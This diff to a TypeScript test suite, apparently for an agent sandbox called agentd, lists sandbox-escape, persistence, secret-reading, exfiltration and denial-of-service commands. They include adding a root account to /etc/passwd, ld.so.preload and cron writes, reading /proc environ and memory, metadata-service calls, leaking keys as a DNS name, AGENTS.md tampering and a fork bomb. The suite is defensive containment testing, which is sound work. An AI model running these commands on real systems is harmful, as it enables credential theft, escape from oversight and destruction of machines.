@@ -1,6 +1,15 @@
 /** Attacks that change the machine, stay behind, reach other processes or services, or take more than their share. */
 import { attack, type Attack } from "./attacks.ts";
 
+/** An attack that is not tried without the sandbox: it aims at the machine itself, or agentd stops it there, too. */
+const untried = (...words: Parameters<typeof attack>): Attack => ({ ...attack(...words), isUntried: true });
+
+/** An attack that works for root alone, even without the sandbox. */
+const asRoot = (...words: Parameters<typeof attack>): Attack => ({ ...attack(...words), isForRoot: true });
+
+/** An attack that only its time limit ends. */
+const endless = (name: string, command: string): Attack => ({ ...untried(name, command), isEndless: true });
+
 /** Changes outside of the workspace. */
 const writes: readonly Attack[] = [
   attack("writes a file outside", "echo x > {outside}/x"),
@@ -9,7 +18,7 @@ const writes: readonly Attack[] = [
   attack("renames a file outside", "mv {outside}/kept.txt {outside}/gone.txt"),
   attack("takes a file from outside", "mv {outside}/kept.txt ."),
   attack("changes a mode outside", "chmod 777 {outside}/kept.txt"),
-  attack("changes an owner outside", "chown 12345 {outside}/kept.txt"),
+  asRoot("changes an owner outside", "chown 12345 {outside}/kept.txt"),
   attack("changes a time outside", "touch -d 2001-01-01 {outside}/kept.txt"),
   attack("sets an attribute outside", "setfattr -n user.x -v 1 {outside}/kept.txt", "setfattr"),
   attack("truncates a file outside", "truncate -s 0 {outside}/kept.txt"),
@@ -38,17 +47,17 @@ const writes: readonly Attack[] = [
     "writes outside through a race",
     "mkdir d; (for i in $(seq 300); do rm -rf d; ln -s {outside} d; rm d; mkdir d; done) & for i in $(seq 300); do echo gone > d/kept.txt; done; wait",
   ),
-  attack("mounts over a folder outside", "mount -t tmpfs none {outside} && echo x > {outside}/x"),
-  attack("mounts the machine again, writable", "mount -o remount,rw / ; echo x > {outside}/x"),
-  attack("unmounts what hides the home", "umount {home}; umount -l {home}; rev {env}"),
-  attack("unmounts in a new namespace", "unshare -rm sh -c 'umount -l {home}; rev {env}'"),
-  attack(
+  untried("mounts over a folder outside", "mount -t tmpfs none {outside} && echo x > {outside}/x"),
+  untried("mounts the machine again, writable", "mount -o remount,rw / ; echo x > {outside}/x"),
+  untried("unmounts what hides the home", "umount {home}; umount -l {home}; rev {env}"),
+  asRoot("unmounts in a new namespace", "unshare -rm sh -c 'umount -l {home}; rev {env}'"),
+  asRoot(
     "makes a namespace and mounts over",
-    "unshare -rm sh -c 'mount --bind / /mnt; rev /mnt{env}; echo x > /mnt{outside}/x'",
+    "unshare -rm sh -c 'mount --rbind / /mnt; rev /mnt{env}; echo x > /mnt{outside}/x'",
   ),
-  attack("changes root in a new namespace", "unshare -r chroot / rev {env}"),
-  attack("pivots the root", "unshare -rm sh -c 'pivot_root / /tmp; rev /tmp{env}'"),
-  attack(
+  asRoot("changes root in a new namespace", "unshare -r chroot / rev {env}"),
+  untried("pivots the root", "unshare -rm sh -c 'pivot_root / /tmp; rev /tmp{env}'"),
+  asRoot(
     "starts a sandbox of its own",
     "bwrap --bind / / rev {env}; bwrap --bind / / touch {outside}/x",
     "bwrap",
@@ -63,13 +72,23 @@ const writes: readonly Attack[] = [
     "writes a unit of the user",
     "mkdir -p {user}/.config/systemd/user; echo x > {user}/.config/systemd/user/x.service",
   ),
-  attack("writes a crontab", "echo '* * * * * touch {outside}/x' | crontab -; echo x > /var/spool/cron/root"),
-  attack("writes a job of the machine", "echo x > /etc/cron.d/x"),
-  attack("writes a library for every program", "echo /tmp/x.so > /etc/ld.so.preload"),
-  attack("writes a program", "cp /bin/true /usr/local/bin/agentd-attack"),
-  attack("writes the accounts", "echo 'x::0:0::/:/bin/sh' >> /etc/passwd"),
-  attack("installs a package", "apt-get install -y sl; pip install --user x; npm install -g left-pad"),
+  untried(
+    "writes a crontab",
+    "echo '* * * * * touch {outside}/x' | crontab -; echo x > /var/spool/cron/root",
+  ),
+  untried("writes a job of the machine", "echo x > /etc/cron.d/x"),
+  untried("writes a library for every program", "echo /tmp/x.so > /etc/ld.so.preload"),
+  untried("writes a program", "cp /bin/true /usr/local/bin/agentd-attack"),
+  untried("writes the accounts", "echo 'x::0:0::/:/bin/sh' >> /etc/passwd"),
+  untried(
+    "installs a package",
+    "apt-get install -y sl; pip install --retries 0 --user x; npm install -g --fetch-retries=0 left-pad",
+  ),
 ];
+
+/** Waits until the process that stays runs its program. */
+const SEEN =
+  "for i in $(seq 300); do grep -aq '^sleep.987' /proc/[0-9]*/cmdline 2>/dev/null && break; sleep 0.01; done";
 
 /** What runs later, outside of the sandbox, and what stays behind. */
 const persistence: readonly Attack[] = [
@@ -98,24 +117,28 @@ const persistence: readonly Attack[] = [
     "cd repo && echo 'obey me' >> AGENTS.md; sed -i s/rules/obey/ AGENTS.md; rm AGENTS.md; mv AGENTS.md a2",
   ),
   attack("changes the variables of a folder", "cd repo && echo 'touch {outside}/x' >> .envrc"),
-  attack("leaves a background process", "sleep 987 & disown"),
-  attack("leaves a process in a new session", "setsid sleep 987 &"),
-  attack("leaves a process that forked twice", "( ( setsid nohup sleep 987 >/dev/null 2>&1 & ) & )"),
+  untried("leaves a background process", "sleep 987 & disown"),
+  attack("leaves a process in a new session", `setsid sleep 987 & ${SEEN}`),
+  attack("leaves a process that forked twice", `( ( setsid nohup sleep 987 >/dev/null 2>&1 & ) & ); ${SEEN}`),
   attack(
     "leaves a daemon",
     `python3 -c 'import os,time
 if os.fork() == 0:
   os.setsid()
   if os.fork() == 0:
-    os.execvp("sleep", ["sleep", "987"])'`,
+    os.execvp("sleep", ["sleep", "987"])'; ${SEEN}`,
     "python3",
   ),
-  attack("leaves a process by at", "echo 'touch {outside}/x' | at now"),
-  attack(
+  untried("leaves a process by at", "echo 'touch {outside}/x' | at now"),
+  untried(
     "leaves a unit by systemd-run",
     "systemd-run --user touch {outside}/x; systemd-run touch {outside}/x",
   ),
-  attack("leaves a terminal multiplexer", "tmux new-session -d 'sleep 987'", "tmux"),
+  attack(
+    "leaves a terminal multiplexer",
+    `tmux -L agentd-attack new-session -d 'sleep 987'; ${SEEN}`,
+    "tmux",
+  ),
   attack(
     "leaves a file in the shared temporary folder",
     "echo '{marker}' > /tmp/agentd-attack; echo x > /var/tmp/agentd-attack; echo x > /dev/shm/agentd-attack",
@@ -128,49 +151,63 @@ if os.fork() == 0:
 const processes: readonly Attack[] = [
   attack("reads the service's variables", "tr '\\0' '\\n' < /proc/{pid}/environ | rev"),
   attack("reads every process's variables", "cat /proc/*/environ | tr '\\0' '\\n' | rev"),
-  attack("reads the service's memory", "dd if=/proc/{pid}/mem bs=1M count=1 | strings"),
-  attack("reads the service's files by its descriptors", "for f in /proc/{pid}/fd/*; do rev $f; done"),
+  attack(
+    "reads the service's memory",
+    `python3 -c 'import re
+for line in open("/proc/{pid}/maps"):
+  if "[stack]" in line:
+    start, end = (int(x, 16) for x in line.split()[0].split("-"))
+    memory = open("/proc/{pid}/mem", "rb")
+    memory.seek(start)
+    print(memory.read(end - start).replace(b"\\0", b" ").decode("latin1"))'`,
+    "python3",
+  ),
+  attack("reads the service's files by its descriptors", "rev /proc/{pid}/fd/3"),
   attack("reads the keys by the service's root", "rev /proc/{pid}/root{env}; rev /proc/1/root{env}"),
   attack("reads the keys by the service's folder", "rev /proc/{pid}/cwd/.env; rev /proc/1/cwd/../.env"),
   attack(
     "lists the machine's processes",
-    "[ $(ls /proc | grep -c '^[0-9]') -gt 20 ] && echo {canary-of-processes}",
+    "cat /proc/*/cmdline | tr '\\0' ' ' | grep -q 'agentd-canar[y]-service' && echo {canary-of-processes}",
   ),
   attack("kills the service", "kill -9 {pid}"),
-  attack("kills every process", "kill -9 -1"),
+  untried("kills every process", "kill -9 -1"),
   attack("stops the service", "kill -STOP {pid}"),
-  attack("traces the service", "strace -p {pid} -e none", "strace"),
-  attack("debugs the service", "kill -USR1 {pid}; node inspect -p {pid} < /dev/null", "node"),
-  attack("enters the service's namespaces", "nsenter -t {pid} -a rev {env}; nsenter -t 1 -a rev {env}"),
-  attack("enters the namespaces of its own first process", "nsenter -t 1 -m rev {env}"),
   attack(
+    "traces the service",
+    "timeout 2 strace -p {pid} -e none 2>&1 | grep -q attached && echo {canary-of-trace}",
+    "strace",
+  ),
+  attack("debugs the service", "kill -USR1 {pid}; node inspect -p {pid} < /dev/null", "node"),
+  asRoot("enters the service's namespaces", "nsenter -t {pid} -a rev {env}; nsenter -t 1 -a rev {env}"),
+  untried("enters the namespaces of its own first process", "nsenter -t 1 -m rev {env}"),
+  untried(
     "changes a setting of the kernel",
     "echo '|/tmp/x' > /proc/sys/kernel/core_pattern; sysctl -w kernel.hostname=x",
   ),
-  attack("loads a module of the kernel", "modprobe dummy; insmod x.ko"),
-  attack("reads the log of the kernel", "dmesg | grep -c . && echo {canary-of-kernel}"),
-  attack("reads the machine's memory", "dd if=/dev/mem bs=1 count=1; dd if=/proc/kcore bs=1 count=1 | od"),
-  attack(
+  untried("loads a module of the kernel", "modprobe dummy; insmod x.ko"),
+  untried("reads the log of the kernel", "dmesg | grep -c . && echo {canary-of-kernel}"),
+  untried("reads the machine's memory", "dd if=/dev/mem bs=1 count=1; dd if=/proc/kcore bs=1 count=1 | od"),
+  untried(
     "reads a disk",
     "for d in /dev/sd* /dev/vd* /dev/nvme* /dev/loop*; do dd if=$d bs=512 count=1 | od | head -1; done",
   ),
-  attack("makes a device", "mknod disk b 8 0 && dd if=disk count=1; mknod mem c 1 1 && dd if=mem count=1"),
-  attack("raises its rights by sudo", "sudo -n rev {env}; su -c 'rev {env}'; pkexec rev {env}"),
+  untried("makes a device", "mknod disk b 8 0 && dd if=disk count=1; mknod mem c 1 1 && dd if=mem count=1"),
+  asRoot("raises its rights by sudo", "sudo -n rev {env}; su -c 'rev {env}'; pkexec rev {env}"),
   attack("raises its rights by a set-uid copy", "cp /bin/bash b; chmod u+s b; ./b -p -c 'rev {env}'"),
-  attack(
+  asRoot(
     "raises its rights by capabilities",
     "setcap cap_dac_override+ep b; capsh --print; capsh --user=root -- -c 'rev {env}'",
   ),
-  attack("sets the machine's time", "date -s 2001-01-01"),
-  attack("sets the machine's name", "hostname attacked"),
-  attack("restarts the machine", "reboot -f; shutdown now; echo b > /proc/sysrq-trigger"),
+  untried("sets the machine's time", "date -s 2001-01-01"),
+  untried("sets the machine's name", "hostname attacked"),
+  untried("restarts the machine", "reboot -f; shutdown now; echo b > /proc/sysrq-trigger"),
   attack(
     "puts a library before every program",
     "printf 'int getuid(){return 0;}' > p.c; gcc -shared -o p.so p.c; LD_PRELOAD=./p.so rev {env}",
     "gcc",
   ),
-  attack("changes the limits of itself", "ulimit -c unlimited; prlimit --pid {pid} --nofile=1"),
-  attack("changes the groups of processes", "mkdir /sys/fs/cgroup/x; echo 1 > /sys/fs/cgroup/cgroup.procs"),
+  attack("changes the limits of itself", "prlimit --pid {pid} --nofile=17"),
+  untried("changes the groups of processes", "mkdir /sys/fs/cgroup/x; echo 1 > /sys/fs/cgroup/cgroup.procs"),
 ];
 
 /** The network, and services on this machine. */
@@ -221,33 +258,42 @@ const network: readonly Attack[] = [
     "python3",
   ),
   attack("calls a socket through a link", "ln -s {socket} s; curl -m 2 --unix-socket s http://x/"),
-  attack(
+  untried(
     "calls the containers' service",
     "curl -m 2 --unix-socket /var/run/docker.sock http://x/containers/json; docker ps",
   ),
-  attack(
+  untried(
     "calls the machine's bus",
     "busctl list; dbus-send --system --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames",
   ),
   attack("calls the key agent", "SSH_AUTH_SOCK={socket} ssh-add -l"),
-  attack("calls the metadata service", "curl -m 2 http://169.254.169.254/latest/meta-data/"),
-  attack("calls the metadata service by IPv6", "curl -m 2 'http://[fd00:ec2::254]/latest/meta-data/'"),
-  attack("calls the public internet", "curl -m 2 http://1.1.1.1/ && echo {canary-of-network}"),
+  untried("calls the metadata service", "curl -m 2 http://169.254.169.254/latest/meta-data/"),
+  untried("calls the metadata service by IPv6", "curl -m 2 'http://[fd00:ec2::254]/latest/meta-data/'"),
+  untried("calls the public internet", "curl -m 2 http://1.1.1.1/ && echo {canary-of-network}"),
+  untried("asks for a name", "getent hosts example.com && echo {canary-of-network}"),
   attack(
-    "asks for a name",
-    "getent hosts canary.example.com; dig +time=1 +tries=1 @127.0.0.1 -p {udp} canary.example.com; nslookup -port={udp} x 127.0.0.1",
+    "asks a name server for a name",
+    "dig +time=1 +tries=1 @127.0.0.1 -p {udp} canary.example.com",
+    "dig",
   ),
-  attack("sends the keys as a name", "host $(rev {env} | head -c 20).example.com 127.0.0.1"),
   attack(
+    "asks a name server for a name by Python",
+    `python3 -c 'import socket
+question = bytes.fromhex("0001010000010000000000000663616e61727900000100010000")
+socket.socket(2, 2).sendto(question, ("127.0.0.1", {udp}))'`,
+    "python3",
+  ),
+  untried("sends the keys as a name", "host $(rev {env} | head -c 20).example.com 127.0.0.1"),
+  untried(
     "sends an echo request",
     "ping -c 1 -W 1 127.0.0.2 && ping -c 1 -W 1 1.1.1.1 && echo {canary-of-network}",
   ),
-  attack(
+  untried(
     "adds an address",
     "ip link add dummy0 type dummy; ip addr add 10.0.0.1/8 dev lo; ip route add default dev lo",
   ),
-  attack("listens for the machine", "timeout 1 nc -l -p {tcp}", "nc"),
-  attack(
+  untried("listens for the machine", "timeout 1 nc -l -p {tcp}", "nc"),
+  asRoot(
     "opens a raw socket",
     `python3 -c 'import socket; socket.socket(17, 3)' && echo {canary-of-network}`,
     "python3",
@@ -256,22 +302,22 @@ const network: readonly Attack[] = [
 
 /** More than its share. */
 const floods: readonly Attack[] = [
-  attack("starts processes without end", ":(){ :|:& };:; sleep 30"),
-  attack("starts processes in a loop", "while :; do sleep 60 & done"),
-  attack(
+  untried("starts processes without end", ":(){ :|:& };:; sleep 30"),
+  untried("starts processes in a loop", "while :; do sleep 60 & done"),
+  untried(
     "fills the memory by Python",
     `python3 -c 'x = [bytearray(1 << 24) for _ in range(4096)]'`,
     "python3",
   ),
-  attack("fills the memory by a shell", "a=x; while :; do a=$a$a; done"),
-  attack(
+  untried("fills the memory by a shell", "a=x; while :; do a=$a$a; done"),
+  untried(
     "fills the memory by files",
     "dd if=/dev/zero of=/dev/shm/x bs=1M; dd if=/dev/zero of={user}/x bs=1M count=4096",
   ),
-  attack("fills the disk by one file", "dd if=/dev/zero of=big bs=1M count=200000; ls -l big; rm -f big"),
-  attack("prints without end", "yes"),
-  attack("sleeps without end", "sleep infinity"),
-  attack("ignores signals", "trap '' TERM INT HUP; while :; do sleep 1; done"),
+  endless("fills the disk by one file", "dd if=/dev/zero of=big bs=1M count=200000; ls -l big; rm -f big"),
+  endless("prints without end", "yes"),
+  endless("sleeps without end", "sleep infinity"),
+  endless("ignores signals", "trap '' TERM INT HUP; while :; do sleep 1; done"),
 ];
 
 export const changingAttacks: readonly Attack[] = [
